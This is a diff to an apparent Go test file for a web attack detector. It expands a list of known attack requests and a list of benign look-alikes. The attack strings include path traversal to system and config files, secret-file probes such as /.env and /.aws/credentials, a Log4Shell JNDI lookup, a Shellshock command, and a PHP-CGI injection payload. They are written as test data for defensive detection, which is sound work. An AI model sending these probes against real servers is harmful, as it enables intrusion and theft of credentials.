@@ -92,7 +92,7 @@ func TestAttacksAreKnown(t *testing.T) {
 	f("product-exploits", "POST /moveitisapi/moveitisapi.dll?action=m2 -", "/human2.aspx", "/fckeditor/editor/filemanager/connectors/test.html", "POST /documentum/upload.aspx?parentid=x&raw=1&unzip=on -", "/SetupWizard.aspx/anything", "/ScreenConnect/SetupWizard.aspx/x")
 	f("secret-files", "/.env", "/api/.env.bak", "/.git/HEAD", "/.git/config", "/web.config", "/.aws/credentials", "/certs/site.pfx", "/id_rsa", "/config/secrets.json", "/App_Data/shop.mdb", "/shop/app_data/users.xml", "/wp-config.php.swo", "/blog/wp-config.php~", "/wp-config.bak")
 	f("backup-files", "/backup.zip", "/old/backup.zip", "/www.rar", "/wwwroot.zip", "/db/shop.bak", "/dump.sql", "/mail/backup.pst", "/data/crm.mdf")
-	f("injection", "/static/..%2f..%2fweb.config%00", "/a.aspx?file=../../../../windows/win.ini", "/a.aspx?file=..%5c..%5c..%5cboot.ini", "/a.aspx?f=%252e%252e%252f%252e%252e%252f%252e%252e%252fx",
+	f("injection", "/static/..%2f..%2fweb.config%00", "/a.aspx?file=../web.config", "/a.aspx?file=../../App_Data/shop.mdb", "/a.aspx?url=file:///etc/hosts", "/a.aspx?file=../../../../windows/win.ini", "/a.aspx?file=..%5c..%5c..%5cboot.ini", "/a.aspx?f=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fx",
 		"/cgi-bin/.%2e/.%2e/bin/sh", "/scripts/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir", "/?x=${jndi:ldap://192.0.2.1/a}", "/?x=%24%7Bjndi:ldap", "GET / ()+{+:;};+/bin/bash+-c+id",
 		"/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input")
 	// SQL, in the spellings of the tools that send it.
@@ -121,6 +121,7 @@ func TestHealthyRequestsAreNoAttacks(t *testing.T) {
 		"/search.aspx?q=script+for+a+movie", "/search.aspx?q=alert+someone", "/search.aspx?q=thread.sleep(1000)", "/search.aspx?q=waitfor+delay+in+sql", "/search.aspx?q=drop+table+lamp", "/search.aspx?q=benchmark(cpu)",
 		"/arcgis/rest/services/a/MapServer/0/query?where=1%3D1&outFields=*", "/arcgis/rest/services/a/MapServer/0/query?where=STATE+%3D+%27CA%27&f=json",
 		"/odata/Orders?$filter=Name+eq+%27O%27%27Neil%27+and+Total+gt+5&$orderby=Id+desc", "/odata/Orders?$filter=Id+eq+5+or+Id+eq+6", "/a.aspx?ReturnUrl=..%2fdefault.aspx", "/a.aspx?ReturnUrl=%2fapp%2fb.aspx%3fx%3d1",
+		"/thumb.ashx?src=../../../images/p1.jpg&w=200", "/thumb.ashx?src=..%5c..%5c..%5cimages%5cp1.jpg", "/owa/redir.aspx?C=1&URL=file:///%5c%5cfs1%5cplans%5ca.docx", "/share/docs/.DS_Store",
 		"/_layouts/15/start.aspx#/Lists/a", "/_layouts/15/ToolPane.aspx", "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.com%2fowa%2f", "/owa/auth/errorFE.aspx?httpCode=500", "/owa/auth/logoff.aspx?Cmd=logoff", "/owa/auth/expiredpassword.aspx", "/owa/auth/signout.aspx",
 		"/autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync&RedirectCount=1", "/autodiscover/autodiscover.json/v1.0/a%40example.com?Protocol=Ews", "/ecp/default.aspx", "/ecp/UsersGroups/Mailboxes.slab?reqId=1",
 		"/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "/Telerik.Web.UI.WebResource.axd?type=rau", "/ckfinder/ckfinder.html", "/human.aspx", "/app_data_sheet.aspx", "/SetupWizard.aspx", "/blog/about-wp-config.html", "/shell.html", "/scripts/shell.js", "/app/login.aspx?cmd=login", "/a.aspx?cmd=network",
